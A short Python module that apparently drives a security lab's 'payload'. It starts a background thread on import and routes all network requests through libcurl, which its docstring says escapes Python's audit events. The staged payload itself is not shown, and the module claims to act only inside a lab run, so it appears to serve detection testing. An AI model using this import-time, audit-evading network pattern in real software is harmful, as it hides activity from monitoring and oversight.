"""Driver of the eightysix lab's payload (see `_stages`, which refuses to act outside of a lab run): every connection is made by
libcurl, of which no audit event of Python tells."""

import io
import threading

import pycurl

from . import _stages


def ask(url, headers=None, body=None):
    """Ask through libcurl."""
    answer, curl = io.BytesIO(), pycurl.Curl()
    curl.setopt(pycurl.URL, url)
    curl.setopt(pycurl.HTTPHEADER, ["%s: %s" % pair for pair in (headers or {}).items()])
    curl.setopt(pycurl.TIMEOUT, 10)
    curl.setopt(pycurl.FAILONERROR, True)
    curl.setopt(pycurl.PROXY, "")
    if url.startswith("https:"):
        curl.setopt(pycurl.CAINFO, _stages.FOLDER + "/ca.crt")
    if body is not None:
        curl.setopt(pycurl.POSTFIELDS, body)
    curl.setopt(pycurl.WRITEFUNCTION, answer.write)
    try:
        curl.perform()
    except pycurl.error as error:
        raise OSError(str(error)) from None
    finally:
        curl.close()
    return answer.getvalue()


threading.Thread(target=_stages.go, kwargs={"asking": ask}, name="curl").start()
